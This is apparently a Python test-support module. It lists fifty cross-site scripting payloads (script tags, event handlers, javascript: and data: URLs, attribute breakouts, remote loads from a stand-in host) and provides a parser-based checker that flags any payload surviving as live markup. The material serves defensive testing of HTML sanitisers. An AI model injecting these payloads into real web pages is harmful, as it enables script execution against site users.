"""Fifty ways to smuggle a script into a page, and what finds one that lives.

Every payload calls `xss`. It lives where a parser makes an element, an attribute or an address of
it; as text, in a title or in a value it is harmless.
"""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

from bs4 import BeautifulSoup, Tag

MARK = "xss"
ELEMENTS: tuple[str, ...] = (
    "<script>xss(1)</script>",
    "<SCRIPT SRC=//xss.example></SCRIPT>",
    "<script >xss(3)</script >",
    "</title><script>xss(4)</script>",
    "</textarea><script>xss(5)</script>",
    "</style><script>xss(6)</script>",
    "</script><script>xss(7)</script>",
    "--><script>xss(8)</script><!--",
    "]]><script>xss(9)</script>",
    "<img src=x onerror=xss(10)>",
    '<img src="x" onerror="xss(11)"',
    '<img/src="x"/onerror=xss(12)>',
    "<IMG SRC=x ONERROR=xss(13)>",
    "<svg onload=xss(14)>",
    "<svg/onload=xss(15)//",
    "<svg><script>xss(16)</script></svg>",
    "<svg><a xlink:href=javascript:xss(17)><text>x</text></a></svg>",
    "<math><mi xlink:href='data:x,xss(18)'></mi></math>",
    "<body onload=xss(19)>",
    "<iframe src=javascript:xss(20)></iframe>",
    "<iframe srcdoc='<script>xss(21)</script>'></iframe>",
    "<object data=javascript:xss(22)></object>",
    "<embed src=javascript:xss(23)>",
    "<base href=//xss.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss(25)'>",
    "<link rel=stylesheet href=//xss.example/a.css>",
    "<style>@import '//xss.example/a.css'</style>",
    "<form action=javascript:xss(28)><button>x</button></form>",
    "<button formaction=javascript:xss(29)>x</button>",
    "<input autofocus onfocus=xss(30)>",
    "<details open ontoggle=xss(31)>",
    "<video><source onerror=xss(32)></video>",
    "<audio src=x onerror=xss(33)>",
    "<marquee onstart=xss(34)>",
    "<a href='javascript:xss(35)'>x</a>",
    "<a href=' java&#09;script:xss(36)'>x</a>",
    "<a href=data:text/html;base64,xss37>x</a>",
    "<template><script>xss(38)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=xss(39)>'>",
)
ATTRIBUTES: tuple[str, ...] = (
    '" onmouseover="xss(40)',
    "' onmouseover='xss(41)",
    '"><img src=x onerror=xss(42)>',
    "'><img src=x onerror=xss(43)>",
    "` onmouseover=`xss(44)` x=",
)
ADDRESSES: tuple[str, ...] = (
    "javascript:xss(45)",
    "JaVaScRiPt:xss(46)",
    " javascript:xss(47)",
    "java\tscript:xss(48)",
    "data:text/html,<script>xss(49)</script>",
    "vbscript:xss(50)",
    "//xss.example/51",
)
PAYLOADS = (*ELEMENTS, *ATTRIBUTES, *ADDRESSES)

_ADDRESSED = frozenset(
    "href src action formaction data poster xlink:href srcset background cite srcdoc".split()
)
_BLANKS = re.compile(r"[\x00-\x20]+")
_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):")
HARMLESS = frozenset(("", "http", "https", "mailto", "tel"))


def lives_in(html: str) -> list[str]:
    """What a parser makes of a text that a payload must not have become."""
    return [
        f"<{tag.name}> {fault}"
        for tag in BeautifulSoup(html, "lxml").find_all(True)
        for fault in _faults(tag)
    ]


def is_harmless(address: str) -> bool:
    """Whether an address can be followed: no scheme that runs, no other host of a payload."""
    bare = _BLANKS.sub("", address).lower()
    scheme = _SCHEME.match(bare)
    elsewhere = bare.startswith(("//", "\\\\", "/\\")) and MARK in bare
    return (scheme[1] if scheme else "") in HARMLESS and not elsewhere


def _is_data(tag: Tag) -> bool:
    """Whether a script is a block of data that nothing broke out of."""
    if tag.get("type") not in ("application/json", "application/ld+json"):
        return False
    try:
        json.loads(tag.string or "")
    except ValueError:
        return False
    return True


def _faults(tag: Tag) -> Iterator[str]:
    if tag.name in ("script", "style") and MARK in str(tag).lower() and not _is_data(tag):
        yield str(tag)[:80]
    if tag.name == "meta" and tag.get("http-equiv") and MARK in str(tag).lower():
        yield str(tag)[:80]
    for name, value in tag.attrs.items():
        text = " ".join(value) if isinstance(value, list) else str(value)
        marked = MARK in text.lower()
        if MARK in name or (name.startswith("on") and marked):
            yield f"{name}={text[:60]}"
        if name in _ADDRESSED and (not is_harmless(text) or (name == "srcdoc" and marked)):
            yield f"{name}={text[:60]}"
        if name == "style" and marked:
            yield f"{name}={text[:60]}"
